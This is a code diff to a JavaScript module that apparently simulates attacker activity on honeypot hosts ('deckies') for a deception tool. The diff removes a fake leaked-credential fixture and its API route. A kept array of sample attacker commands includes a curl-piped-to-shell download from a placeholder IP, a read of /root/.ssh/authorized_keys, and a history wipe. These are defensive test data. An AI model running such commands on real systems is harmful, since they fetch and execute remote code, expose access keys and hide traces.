@@ -1,31 +1,11 @@
 // What is done on deckies while somebody looks, and the secrets of ours that were tried there.
-import { json, page } from './http.mjs';
 import { addressOf, iso, uuid } from './sessions.mjs';
 
-const minute = 60_000;
 const typed = ['ls -la', 'cat /root/.ssh/authorized_keys', 'curl -s http://198.51.100.9/k | sh', 'history -c'];
 const used = ['logged_in', 'command', 'query', 'upload', 'download', 'fetch', 'forward'];
 
-export const initial = (scenario, now) => ({
+export const initial = () => ({
   deeds: [], // logs that came while the server ran, newest first
-  credentials: scenario === 'full' ? [2, 1].map((n) => leaked(n, now)) : [],
-});
-
-const leaked = (n, now) => ({
-  id: uuid('c3d', n),
-  kind: 'plaintext',
-  principal: 'deploy',
-  fingerprint: `v1:9c1f:${String(n).padStart(64, 'a')}`,
-  decky: 'web-1',
-  service: 'ssh',
-  attacker_ip: addressOf(n),
-  session: uuid('5e5', 500 - n),
-  attempts: n,
-  accepted: n === 1,
-  leaked: true,
-  first_seen: iso(now - 10 * minute),
-  last_seen: iso(now - 9 * minute),
-  has_secret: false,
 });
 
 /** Has a client do something on a decky: stored, unless told otherwise, and said. */
@@ -62,8 +42,4 @@ export const contactOf = (row) => ({
   occurred_at: row.timestamp,
 });
 
-export const routes = {
-  'GET credentials': ({ state, res, q }) => json(res, 200, page(state.credentials.filter(matching(q)), q)),
-};
-
-const matching = (q) => (c) => ['decky', 'service', 'attacker_ip'].every((k) => !q.get(k) || c[k] === q.get(k));
+export const routes = {};
